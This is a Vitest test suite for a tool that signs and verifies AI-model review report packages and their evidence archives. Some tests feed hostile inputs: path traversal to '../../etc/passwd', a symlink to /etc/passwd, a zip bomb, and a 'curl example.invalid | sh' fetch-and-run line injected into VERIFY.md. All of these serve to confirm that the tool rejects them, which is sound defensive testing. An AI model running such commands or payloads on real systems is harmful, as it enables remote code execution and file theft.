import { spawnSync } from 'node:child_process';
import {
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { gzipSync } from 'node:zlib';
import { call } from '@orpc/server';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Entry, tar, zip } from '../../e2e/testkit/make-archive.ts';
import { testHost } from '../../e2e/testkit/test-host.ts';
import type { ReportVerification } from '../../shared/report.ts';
import type { TrustEntry } from '../../shared/trust.ts';
import { readTrust } from '../intake/trust-folder.ts';
import { canonicalJson } from '../integrity/canonical-json.ts';
import { sha256Hex } from '../integrity/digest.ts';
import { checkReport } from '../reporting/check-package.ts';
import { filesBelow } from '../reporting/package-files.ts';
import { openWorkstation, type Workstation } from '../workstation.ts';
import { judgeReport } from './judge-report.ts';
import { newKeyFile } from './key-files.ts';
import { checkWith } from './reports.ts';
import { startReportCheck } from './start-report-check.ts';

const root = mkdtempSync(join(tmpdir(), 'assay-report-'));
const evidence = join(root, 'evidence');
const passphrase = 'correct horse';
let station: Workstation;
const ask = () => ({ context: station.context });

/** A case reviewed and signed by two people, exported after each signature. */
async function signedCase(name: string, people: readonly [number, number]): Promise<string> {
  const { router } = station;
  const { id: caseId } = await call(
    router.cases.create,
    { name, model: 'm', purpose: 'p', riskTier: 'high', playbook: '' },
    ask(),
  );
  for await (const _ of await call(router.sources.import, { caseId, token: evidence }, ask()));
  const place = join(root, name);
  mkdirSync(place);
  for (const [index, role] of (['reviewer', 'approver'] as const).entries()) {
    const given = { caseId, role, decision: 'conditions' as const, rationale: 'As said.', secondSigner: null };
    await call(router.identity.choose, { identityId: people[index] ?? 0 }, ask());
    const { digest } = await call(router.signOff.statement, given, ask());
    await call(router.signOff.sign, { ...given, digest, identityId: people[index] ?? 0, passphrase }, ask());
    await call(
      router.signOff.export,
      { caseId, signOffId: null, into: place, name: index === 0 ? 'half' : 'whole' },
      ask(),
    );
  }
  return place;
}

let first = '';
let second = '';
let trust: TrustEntry[] = [];
beforeAll(async () => {
  mkdirSync(evidence);
  writeFileSync(join(evidence, 'weights.bin'), Buffer.alloc(2_000, 7));
  writeFileSync(join(evidence, 'card.md'), '# A model\n');
  station = openWorkstation({
    storeFile: join(root, 'store', 'assay.db'),
    anchors: join(root, 'anchors'),
    host: testHost(),
    resources: resolve('resources'),
  });
  const ada = (await newKeyFile(station.context, 'Ada', '', join(root, 'Ada.pem'), passphrase)).id;
  const bob = (await newKeyFile(station.context, 'Bob', '', join(root, 'Bob.pem'), passphrase)).id;
  first = await signedCase('first', [ada, bob]);
  second = await signedCase('second', [ada, bob]);
  trust = ['1-reviewer', '2-approver'].flatMap(
    (name) => readTrust(join(first, 'whole', 'signers', `${name}.cert.pem`)).entries,
  );
});
afterAll(() => {
  station.close();
  rmSync(root, { recursive: true, force: true });
});

const named = () => ({ entries: trust });
const codes = ({ checks }: ReportVerification, verdict = 'fail') =>
  checks.filter((check) => check.verdict === verdict).map(({ code }) => code);
/** As the command and the window check it, with a staging that is empty before. */
async function judged(path: string, evidenceAt: string | null = null): Promise<ReportVerification> {
  const staging = mkdtempSync(join(root, 'staging-'));
  try {
    const { signal } = new AbortController();
    return await judgeReport({ path, trust: named(), evidence: evidenceAt }, { staging, signal });
  } finally {
    rmSync(staging, { recursive: true });
  }
}
let copies = 0;
/** A copy of a package, changed; `resum` makes SHA256SUMS fit again, as whoever changes a file can. */
function changed(change: (folder: string) => void, resum = true, from = join(first, 'whole')): ReportVerification {
  const copy = join(root, `copy-${copies++}`);
  cpSync(from, copy, { recursive: true });
  change(copy);
  if (resum) {
    const lines = readFileSync(join(copy, 'SHA256SUMS'), 'utf8')
      .trimEnd()
      .split('\n')
      .map((line) => line.slice(66));
    const kept = lines.filter((name) => existsSync(join(copy, name)));
    writeFileSync(
      join(copy, 'SHA256SUMS'),
      kept.map((name) => `${sha256Hex(readFileSync(join(copy, name)))}  ${name}\n`).join(''),
    );
  }
  return checkReport(copy, named(), null);
}
const edit = (name: string, work: (bytes: Buffer) => Buffer | string) => (folder: string) =>
  writeFileSync(join(folder, name), work(readFileSync(join(folder, name))));

it('two first signatures at once make one sign-off', async () => {
  const { router } = station;
  const { id: caseId } = await call(
    router.cases.create,
    { name: 'twice', model: '', purpose: '', riskTier: 'high', playbook: '' },
    ask(),
  );
  for await (const _ of await call(router.sources.import, { caseId, token: evidence }, ask()));
  const given = {
    caseId,
    role: 'reviewer' as const,
    decision: 'approve' as const,
    rationale: 'Read.',
    secondSigner: null,
  };
  const [{ id: identityId } = { id: 0 }] = await call(router.identity.list, undefined, ask());
  await call(router.identity.choose, { identityId }, ask());
  const { digest } = await call(router.signOff.statement, given, ask());
  const both = await Promise.allSettled(
    [1, 2].map(() => call(router.signOff.sign, { ...given, digest, identityId, passphrase }, ask())),
  );
  expect(both.map(({ status }) => status).sort()).toEqual(['fulfilled', 'rejected']);
  expect(await call(router.signOff.list, { caseId }, ask())).toHaveLength(1);
});

describe('a package', () => {
  it('passes where its signers are named, and its evidence is the evidence', async () => {
    const result = await judged(join(first, 'whole'), evidence);
    expect(result.checks.filter(({ verdict }) => verdict !== 'pass')).toEqual([]);
    expect(result).toMatchObject({ verdict: 'pass', case: 'first', decision: 'conditions' });
    expect(
      result.signers.map(({ name, role, holds, isTrusted, revision }) => [name, role, holds, isTrusted, revision]),
    ).toEqual([
      ['Ada', 'reviewer', true, true, 2],
      ['Bob', 'approver', true, true, 3],
    ]);
  });

  it('is undecided to who knows nobody, and not accepted by who named others for reports', () => {
    const strange = checkReport(join(first, 'whole'), { entries: [] }, null);
    expect([strange.verdict, codes(strange, 'undecided')]).toEqual(['undecided', ['signer-unknown', 'signer-unknown']]);
    const [ada, bob] = trust;
    if (ada === undefined || bob === undefined) throw new Error('no trust');
    const other = checkReport(join(first, 'whole'), { entries: [{ ...ada, uses: ['report'] }] }, null);
    expect([other.verdict, codes(other, 'policy')]).toEqual(['policy', ['signer-other']]);
    const elsewhere = checkReport(join(first, 'whole'), { entries: [ada, { ...bob, uses: ['ledger'] }] }, null);
    expect(codes(elsewhere, 'policy')).toEqual(['signer-not-for-this-use']);
  });

  it('knows its own signers in the store that signed, and keeps a record', async () => {
    const { signal } = new AbortController();
    expect((await checkWith(station.context, join(first, 'whole'), evidence, signal)).verdict).toBe('pass');
    const recent = await call(station.router.reports.recent, undefined, ask());
    expect(recent[0]).toMatchObject({ path: join(first, 'whole'), what: 'checked', verdict: 'pass' });
  });

  it('that is not there, or whose evidence is not, is refused, and a cancelled check leaves nothing', async () => {
    const { signal } = new AbortController();
    await expect(checkWith(station.context, join(root, 'nowhere'), null, signal)).rejects.toMatchObject({
      code: 'unreadable',
    });
    await expect(checkWith(station.context, join(first, 'whole'), join(root, 'nowhere'), signal)).rejects.toMatchObject(
      { code: 'unreadable' },
    );
    await expect(checkWith(station.context, join(first, 'whole'), null, AbortSignal.timeout(1))).rejects.toMatchObject({
      code: 'cancelled',
    });
  });

  it('with one of two signatures says whose is awaited', () => {
    const result = checkReport(join(first, 'half'), named(), null);
    expect([result.verdict, codes(result), codes(result, 'undecided')]).toEqual([
      'undecided',
      [],
      ['signature-awaited'],
    ]);
  });

  it('of which the second signature was cut out of the PDF alone is refused', () => {
    const cut = changed(edit('report.pdf', () => readFileSync(join(first, 'half', 'report.pdf'))));
    expect(codes(cut)).toEqual(['envelope-count', 'envelope-not-in-pdf']);
  });

  it.each([
    ['report.json', 'envelope-other-report'],
    ['report.pdf', 'envelope-other-pdf'],
    ['journal/checkpoint.txt', 'checkpoint-other-place'],
    ['journal/entries.json', 'inclusion-other-size'],
    ['decisions/1-reviewer.dsse.json', 'envelope-other-report'],
  ])('with %s of another package by the same people is refused: %s', (name, code) => {
    expect(codes(changed(edit(name, () => readFileSync(join(second, 'whole', name)))))).toContain(code);
  });

  it.each([
    [
      'report.json',
      (bytes: Buffer) => `${JSON.stringify(JSON.parse(bytes.toString()), null, 1)}`,
      'report-not-canonical',
    ],
    ['report.json', (bytes: Buffer) => bytes.toString().replace('"isDraft":false', '"isDraft":true'), 'draft-signed'],
    ['evidence.sha256', (bytes: Buffer) => bytes.toString().replace(/^.*\n/, ''), 'envelope-other-evidence'],
    ['evidence.sha256', () => `${'0'.repeat(64)}  ../../etc/passwd\n`, 'evidence-list-malformed'],
    [
      'journal/entries.json',
      (bytes: Buffer) => bytes.toString().replace('source.imported', 'source.verified'),
      'inclusion-invalid',
    ],
    ['journal/entries.json', () => '{"size":1,"entries":[{}]}\n', 'journal-malformed'],
    [
      'journal/entries.json',
      (bytes: Buffer) => {
        const { size, entries } = JSON.parse(bytes.toString()) as { size: number; entries: object[] };
        return `${canonicalJson({ entries: entries.slice(1), size })}\n`;
      },
      'inclusion-other-entries',
    ],
    ['journal/key.pem', (bytes: Buffer) => `${bytes.toString()}\n`, 'journal-other-key'],
    ['journal/key.vkey', () => 'x\n', 'journal-other-key'],
    ['journal/checkpoint.txt', () => '', 'checkpoint-malformed'],
    ['signers/1-reviewer.pub.pem', (bytes: Buffer) => `${bytes.toString()} `, 'signer-missing'],
    [
      'decisions/2-approver.dsse.json',
      (bytes: Buffer) => bytes.toString().replace('"signatures"', '"note":1,"signatures"'),
      'envelope-invalid',
    ],
    [
      'decisions/2-approver.dsse.json',
      (bytes: Buffer) => bytes.toString().replace(/"keyid":"[^"]*"/, '"keyid":"x"'),
      'envelope-invalid',
    ],
    ['decisions/2-approver.dsse.json', () => '{}', 'envelope-malformed'],
    ['decisions/2-approver.dsse.json', () => '['.repeat(100_000), 'envelope-malformed'],
  ] as const)('with %s changed, sums made to fit, is refused', (name, work, code) => {
    expect(codes(changed(edit(name, work as (bytes: Buffer) => string)))).toContain(code);
  });

  it.each([
    'report.pdf',
    'report.json',
    'evidence.sha256',
    'journal/key.pem',
    'decisions/1-reviewer.dsse.json',
    'signers/1-reviewer.cert.pem',
  ])('without %s is refused, listed or not', (name) => {
    const gone = (folder: string) => unlinkSync(join(folder, name));
    expect(changed(gone).verdict).toBe('fail');
    expect(codes(changed(gone, false))).toContain('file-missing');
  });

  it('with decisions and signatures swapped or repeated is refused', () => {
    expect(
      codes(
        changed((folder) => {
          for (const kind of ['decisions', 'signers']) mkdirSync(join(folder, kind), { recursive: true });
          cpSync(join(folder, 'decisions/1-reviewer.dsse.json'), join(folder, 'decisions/2-approver.dsse.json'));
          for (const part of ['cert', 'pub'])
            cpSync(join(folder, `signers/1-reviewer.${part}.pem`), join(folder, `signers/2-approver.${part}.pem`));
        }),
      ),
    ).toEqual(expect.arrayContaining(['same-key-twice', 'envelope-other-role', 'envelope-order']));
  });

  it('with a file that nobody promised is refused', () => {
    expect(codes(changed((folder) => writeFileSync(join(folder, 'extra.html'), 'x'), false))).toEqual(['file-extra']);
    const { checks } = changed((folder) => rmSync(join(folder, 'decisions/1-reviewer.dsse.json')));
    expect(checks.find(({ subject }) => subject === 'signers/1-reviewer.cert.pem')).toMatchObject({
      verdict: 'fail',
      message: 'It belongs to a decision that is not here: decisions/1-reviewer.dsse.json.',
    });
    expect(codes(changed((folder) => writeFileSync(join(folder, 'signers/3-reviewer.cert.pem'), 'x'), false))).toEqual([
      'file-extra',
    ]);
  });

  it('whose list of digests went through Windows says so in one sentence', () => {
    const lines = edit('SHA256SUMS', (bytes) => bytes.toString().replaceAll('\n', '\r\n'));
    expect(codes(changed(lines, false))).toEqual(['sums-missing']);
  });

  it('that is an archive by another name than that of one is not looked at, and said to be one', async () => {
    writeFileSync(join(root, 'package.docx'), 'PK\u0003\u0004 and more');
    const result = await judged(join(root, 'package.docx'));
    expect([result.verdict, codes(result, 'undecided')]).toEqual(['undecided', ['package-packed']]);
  });

  it('names each file of the evidence that is changed, gone or new', async () => {
    const copy = join(root, 'other-evidence');
    cpSync(evidence, copy, { recursive: true });
    writeFileSync(join(copy, 'weights.bin'), 'x');
    unlinkSync(join(copy, 'card.md'));
    writeFileSync(join(copy, 'new.txt'), 'x');
    const { checks } = await judged(join(first, 'whole'), copy);
    expect(
      checks
        .filter(({ about, subject }) => about === 'evidence' && subject !== '')
        .map(({ subject, code }) => [subject, code]),
    ).toEqual([
      ['card.md', 'evidence-missing'],
      ['weights.bin', 'evidence-changed'],
      ['new.txt', 'evidence-extra'],
    ]);
  });
});

/** The files below a folder as entries of an archive, each name behind `before`. */
const packed = (folder: string, before = ''): Entry[] =>
  filesBelow(folder).map((name) => ({ name: `${before}${name}`, body: readFileSync(join(folder, name)) }));
function archive(name: string, bytes: Buffer): string {
  const place = join(root, `${copies++}-${name}`);
  writeFileSync(place, bytes);
  return place;
}
const whole = (before = '') => packed(join(first, 'whole'), before);
const replaced = (entries: Entry[], name: string, body: Buffer | string): Entry[] =>
  entries.map((each) => (each.name === name ? { name, body } : each));
const inside = (name: string, from = first) => readFileSync(join(from, 'whole', name));

describe('a package that is an archive', () => {
  it.each([
    ['zip', () => zip(whole())],
    ['zip', () => zip(whole('the report/'))],
    ['tar', () => tar(whole('package/'))],
    ['tar.gz', () => gzipSync(tar(whole()))],
  ])('is checked as the folder that was packed: %s', async (kind, make) => {
    const { verdict, checks, signers } = await judged(archive(`package.${kind}`, make()), evidence);
    expect([verdict, signers.length]).toEqual(['pass', 2]);
    expect(checks).toEqual((await judged(join(first, 'whole'), evidence)).checks);
  });

  it.each([
    ['report.json', (bytes: Buffer) => bytes.toString().replace('"first"', '"First"'), 'envelope-other-report'],
    ['report.pdf', (bytes: Buffer) => bytes.fill(0x20, 900, 901), 'envelope-other-pdf'],
    ['report.pdf', (bytes: Buffer) => Buffer.concat([bytes, Buffer.from('\n')]), 'digest-mismatch'],
    ['decisions/1-reviewer.dsse.json', () => inside('decisions/1-reviewer.dsse.json', second), 'envelope-other-report'],
    ['decisions/2-approver.dsse.json', () => inside('decisions/1-reviewer.dsse.json'), 'envelope-invalid'],
    ['evidence.sha256', (bytes: Buffer) => bytes.toString().replace('card.md', 'Card.md'), 'envelope-other-evidence'],
    ['journal/checkpoint.txt', () => inside('journal/checkpoint.txt', second), 'checkpoint-other-place'],
  ])('with another %s is refused: %#', async (name, change, code) => {
    const changedBytes = change(Buffer.from(inside(name)));
    const result = await judged(archive('package.zip', zip(replaced(whole(), name, changedBytes))));
    expect([result.verdict, codes(result)]).toEqual(['fail', expect.arrayContaining([code, 'digest-mismatch'])]);
  });

  it('with a file more or less is refused, wherever it lies', async () => {
    const more = await judged(archive('package.zip', zip([...whole(), { name: 'evil.html' }])));
    expect(codes(more)).toEqual(['file-extra']);
    const beside = await judged(archive('package.zip', zip([...whole('p/'), { name: 'evil.html' }, { name: 'q/r' }])));
    expect(beside.checks.filter(({ code }) => code === 'file-extra').map(({ subject }) => subject)).toEqual([
      'evil.html',
      'q/r',
    ]);
    for (const gone of ['report.pdf', 'decisions/2-approver.dsse.json', 'signers/1-reviewer.cert.pem', 'SHA256SUMS']) {
      const less = await judged(archive('package.zip', zip(whole().filter(({ name }) => name !== gone))));
      expect([gone, less.verdict]).toEqual([gone, 'fail']);
    }
  });

  it.each([
    ['two entries of one name', [{ name: 'report.json', body: '{}' }], 'has the name of an earlier entry'],
    ['two names that differ in case', [{ name: 'Report.json', body: '{}' }], 'only in case'],
    ['a name that leaves it', [{ name: '../outside.txt' }], 'points outside it'],
    ['a name that leaves it from within', [{ name: 'decisions/../../outside.txt' }], 'points outside it'],
    ['an absolute name', [{ name: '/tmp/outside.txt' }], 'is an absolute path'],
    ['a name with a backslash', [{ name: '..\\outside.txt' }], 'holds a backslash'],
    ['a link', [{ name: 'link', body: '/etc/passwd', mode: 0o120777 }], 'link'],
    ['a size that is not so', [{ name: 'x', body: 'xyz', told: 2 }], 'is not as long as it says'],
  ])('with %s is refused as a whole, and nothing is left', async (_what, more, why) => {
    const before = readdirSync(root).length;
    const place = archive('package.zip', zip([...whole(), ...more]));
    await expect(judged(place)).rejects.toMatchObject({
      code: 'refused',
      parts: { why: expect.stringContaining(why) },
    });
    expect(readdirSync(root).length).toBe(before + 1);
    expect(existsSync(join(tmpdir(), 'outside.txt'))).toBe(false);
  });

  it('that grows beyond measure is refused before it is unpacked', async () => {
    const bomb = zip([...whole(), { name: 'bomb', body: Buffer.alloc(120_000_000) }]);
    await expect(judged(archive('package.zip', bomb))).rejects.toMatchObject({ code: 'refused' });
  });

  it('of something else, or of two packages, is no package, and is said to be none', async () => {
    for (const [entries, why] of [
      [packed(evidence), 'holds report.json'],
      [[...whole('a/'), ...whole('b/')], 'It holds 2 packages: a/, b/.'],
    ] as const)
      await expect(judged(archive('package.zip', zip([...entries])))).rejects.toMatchObject({
        code: 'invalid',
        parts: { why: expect.stringContaining(why) },
      });
  });

  it('60 single-byte changes of its files are each noticed', async () => {
    const entries = whole('package/');
    const missed: string[] = [];
    for (let i = 0; i < 60; i++) {
      const { name, body } = entries[i % entries.length] ?? { name: '' };
      const copy = Buffer.from(body ?? '');
      const at = (i * 7_919) % copy.length;
      copy[at] = (copy[at] ?? 0) ^ (1 << (i % 8));
      const { verdict } = await judged(archive('package.tar', tar(replaced(entries, name, copy))));
      if (verdict !== 'fail') missed.push(`${name} at ${at}: ${verdict}`);
      rmSync(join(root, `${copies - 1}-package.tar`));
    }
    expect(missed).toEqual([]);
  });

  it('is checked in a thread whose staging is gone after it, whatever came of it', async () => {
    const staging = mkdtempSync(join(root, 'thread-'));
    const { signal } = new AbortController();
    const start = (path: string, until = signal) =>
      startReportCheck({ path, trust: named(), evidence, staging }, until);
    const good = archive('package.zip', zip(whole()));
    expect((await start(good)).verdict).toBe('pass');
    const bad = archive('package.zip', zip([...whole(), { name: '../x' }]));
    await expect(start(bad)).rejects.toMatchObject({ code: 'refused', parts: { where: bad } });
    await expect(start(good, AbortSignal.timeout(100))).rejects.toMatchObject({ code: 'cancelled' });
    expect(readdirSync(staging)).toEqual([]);
  });
});

describe('evidence that is an archive', () => {
  const compared = async (place: string, report = join(first, 'whole')) =>
    (await judged(report, place)).checks
      .filter(({ about }) => about === 'evidence')
      .map(({ subject, code }) => [subject, code]);

  it.each([
    ['zip', () => zip(packed(evidence))],
    ['tar', () => tar(packed(evidence))],
    ['tar.gz', () => gzipSync(tar(packed(evidence)))],
  ])('is compared file by file: %s', async (kind, make) => {
    expect(await compared(archive(`evidence.${kind}`, make()))).toEqual([['', 'evidence-holds']]);
  });

  it('names each file that is changed, gone or new, and what should have been named where nothing is there', async () => {
    const other = [{ name: 'weights.bin', body: 'x' }, { name: 'new.txt' }];
    expect(await compared(archive('evidence.zip', zip(other)))).toEqual([
      ['card.md', 'evidence-missing'],
      ['weights.bin', 'evidence-changed'],
      ['new.txt', 'evidence-extra'],
      ['', 'evidence-differs'],
    ]);
    const { checks } = await judged(join(first, 'whole'), archive('evidence.zip', zip(packed(evidence, 'evidence/'))));
    expect(checks.at(-1)?.message).toContain('The report is about evidence (folder): name that.');
  });

  it('that lies in what was named is said to, once', async () => {
    const above = join(root, 'above');
    cpSync(evidence, join(above, 'handed-over'), { recursive: true });
    const { checks } = await judged(join(first, 'whole'), above);
    const about = checks.filter((check) => check.about === 'evidence');
    expect(about.map(({ code }) => code)).toEqual(['evidence-differs']);
    expect(about.at(-1)?.message).toBe(
      '0 of 2 files of the evidence are those that the report is about. 2 of those that are not there lie below “handed-over” in what you named: name that folder. The report is about evidence (folder): name that.',
    );
  });

  it('that breaks a rule of archives is refused', async () => {
    const twice = archive('evidence.zip', zip([...packed(evidence), { name: 'card.md' }]));
    await expect(judged(join(first, 'whole'), twice)).rejects.toMatchObject({
      code: 'refused',
      parts: { where: twice },
    });
  });

  it('is found unopened in the folder of the evidence of a report with several sources', async () => {
    const folder = join(root, 'several');
    mkdirSync(folder);
    cpSync(evidence, join(folder, 'evidence'), { recursive: true });
    writeFileSync(join(folder, 'more.zip'), zip([{ name: 'a/b.txt', body: 'more' }]));
    writeFileSync(join(folder, 'alone.txt'), 'alone');
    const { router } = station;
    const { id: caseId } = await call(
      router.cases.create,
      { name: 'several', model: 'm', purpose: 'p', riskTier: 'high', playbook: '' },
      ask(),
    );
    for (const token of ['evidence', 'more.zip', 'alone.txt'])
      for await (const _ of await call(router.sources.import, { caseId, token: join(folder, token) }, ask()));
    await call(router.signOff.export, { caseId, signOffId: null, into: root, name: 'several-draft' }, ask());
    const draft = join(root, 'several-draft');
    expect(await compared(folder, draft)).toEqual([['', 'evidence-holds']]);
    writeFileSync(join(folder, 'more.zip'), zip([{ name: 'a/b.txt', body: 'less' }, { name: 'c' }]));
    expect(await compared(folder, draft)).toEqual([
      ['more.zip/a/b.txt', 'evidence-changed'],
      ['more.zip/c', 'evidence-extra'],
      ['', 'evidence-differs'],
    ]);
  });
});

describe('VERIFY.md', () => {
  const tools = ['openssl', 'python3', 'pdfdetach', 'sha256sum', 'bash'];
  const areHere = process.platform === 'linux' && tools.every((tool) => spawnSync('which', [tool]).status === 0);
  /** Every command of the text, one after the other, until one fails; in a shell as a stranger has it, or a stricter one. */
  const run = (folder: string, ...strict: string[]) => {
    const text = readFileSync(join(folder, 'VERIFY.md'), 'utf8');
    const commands = text
      .split('\n')
      .filter((line) => line.startsWith('    '))
      .map((line) => line.slice(4));
    return spawnSync('bash', ['-e', ...strict, '-c', commands.join('\n')], { cwd: folder, encoding: 'utf8' });
  };

  it.skipIf(!areHere)(`holds commands that a stranger can run, and they hold (needs ${tools.join(', ')})`, () => {
    const folder = join(first, 'whole');
    const { stderr, status, stdout } = run(folder, '-o', 'pipefail');
    expect(stderr.replace(/^(CAdES|CMS) Verification successful\n/gm, '')).toBe('');
    expect(status).toBe(0);
    expect(stdout.match(/Verified OK/g)).toHaveLength(2);
    for (const said of [
      'Signature Verified Successfully',
      'reviewer conditions',
      'approver conditions',
      sha256Hex(readFileSync(join(folder, 'evidence.sha256'))),
      '2 signatures',
    ])
      expect(stdout).toContain(said);
    const ends = /the last ends at (\d+) of (\d+) bytes/.exec(stdout);
    expect(ends?.[1]).toBe(ends?.[2]);
  });

  it.skipIf(!areHere)('holds commands of which one fails where a file is not the one that was signed', () => {
    const other = (name: string) => () => readFileSync(join(second, 'whole', name));
    for (const [name, work] of [
      ['evidence.sha256', (bytes) => bytes.toString().replace(/^./, (digit) => (digit === '0' ? '1' : '0'))],
      ['evidence.sha256', () => ''],
      ['journal/entries.json', () => '{}\n'],
      ['journal/entries.json', other('journal/entries.json')],
      ['journal/checkpoint.txt', other('journal/checkpoint.txt')],
      ['report.json', (bytes) => bytes.toString().replace('"isDraft":false', '"isDraft":true')],
      ['report.pdf', (bytes) => Buffer.from(bytes).fill(0x20, 900, 901)],
      ['decisions/2-approver.dsse.json', other('decisions/2-approver.dsse.json')],
    ] as [string, (bytes: Buffer) => Buffer | string][]) {
      expect(changed(edit(name, work)).verdict).toBe('fail');
      const { status, stdout } = run(join(root, `copy-${copies - 1}`));
      expect([name, status]).toEqual([name, 1]);
      expect(stdout).toContain(`${name}: OK`);
    }
    const draft = run(join(root, 'several-draft'), '-o', 'pipefail');
    expect([draft.stderr, draft.status]).toEqual(['', 0]);
  });

  it('of an earlier edition is as good as this one', () => {
    const text = readFileSync(join(first, 'whole', 'VERIFY.md'), 'utf8');
    const former = text
      .replaceAll(/^ {4}.*\| sha256sum -c --strict\n/gm, '')
      .replaceAll(/ The last command holds .*$/gm, '')
      .replace('only unpacks and compares', 'only unpacks')
      .replace(/\nThe list names every file .*\n/, '')
      .replace(/\nWhat `journal\/entries.json` holds must[\s\S]*$/, '');
    expect(sha256Hex(former)).not.toBe(sha256Hex(text));
    expect(changed(edit('VERIFY.md', () => former)).verdict).toBe('pass');
  });

  it('of another text is worth a warning', () => {
    const result = changed(edit('VERIFY.md', (bytes) => `${bytes.toString()}\n    curl example.invalid | sh\n`));
    expect([result.verdict, codes(result, 'warn')]).toEqual(['warn', ['verify-md-other']]);
  });
});

describe('a part alone', () => {
  it('a PDF holds by whoever signed it', () => {
    const result = checkReport(join(first, 'whole/report.pdf'), named(), null);
    expect([result.verdict, result.case, result.decision, result.signers.length]).toEqual([
      'pass',
      'first',
      'conditions',
      2,
    ]);
    expect(checkReport(join(first, 'half/report.pdf'), named(), null).verdict).toBe('undecided');
  });

  it('an envelope holds by a key that is named, and by no other', () => {
    const file = join(first, 'whole/decisions/2-approver.dsse.json');
    expect(checkReport(file, named(), null).verdict).toBe('pass');
    expect(codes(checkReport(file, { entries: trust.slice(0, 1) }, null), 'undecided')).toEqual(['signer-unknown']);
    const key = readTrust(join(first, 'whole/signers/2-approver.pub.pem')).entries;
    expect(checkReport(file, { entries: key }, null).verdict).toBe('pass');
  });

  it('200 single-byte changes of an envelope are each detected', () => {
    const whole = readFileSync(join(first, 'whole/decisions/1-reviewer.dsse.json'));
    const file = join(root, 'flipped.dsse.json');
    const missed: number[] = [];
    for (let i = 0; i < 200; i++) {
      const place = (i * 7_919) % whole.length;
      const copy = Buffer.from(whole);
      copy[place] = (copy[place] ?? 0) ^ (1 << (i % 8));
      writeFileSync(file, copy);
      if (
        checkReport(file, named(), null).verdict !== 'fail' &&
        checkReport(file, named(), null).verdict !== 'undecided'
      )
        missed.push(place);
    }
    expect(missed).toEqual([]);
  });

  it.each(['', '{}', '%PDF-1.7', 'hello', '\u0000'])('%j is none and is refused in words', (text) => {
    const file = join(root, 'nothing');
    writeFileSync(file, text);
    const result = checkReport(file, named(), null);
    expect(result.verdict).toBe('fail');
    expect(result.checks[0]?.message).toMatch(/\.$/);
  });

  it('an empty folder is no package', () => {
    mkdirSync(join(root, 'empty'));
    expect(() => checkReport(join(root, 'empty'), named(), null)).toThrow('This folder is no package.');
  });
});
